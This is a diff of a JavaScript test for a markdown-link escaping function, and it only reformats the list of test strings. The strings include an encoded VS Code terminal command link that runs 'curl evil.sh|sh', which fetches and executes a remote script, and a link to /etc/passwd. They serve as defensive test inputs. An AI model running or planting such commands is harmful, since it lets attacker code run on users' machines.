@@ -10,7 +10,12 @@ const ICON = /\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
 
 test('a command link or an icon in data stays text, and reads the same', () => {
   const key = '[Fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.sh%7Csh%5Cn%22%7D)';
-  for (const text of [key, `Unknown key "${key}" in bot.definition.yaml`, `[a](https://x.example) and [b](file:///etc/passwd "t")`, '$(zap) $(sync~spin) costs $(5)']) {
+  for (const text of [
+    key,
+    `Unknown key "${key}" in bot.definition.yaml`,
+    `[a](https://x.example) and [b](file:///etc/passwd "t")`,
+    '$(zap) $(sync~spin) costs $(5)',
+  ]) {
     const safe = escapeMarkdownLinks(text);
     assert.equal(safe.replace(/\u200b/g, ''), text, 'visibly the same');
     assert.equal(safe.match(LINK), null, safe);
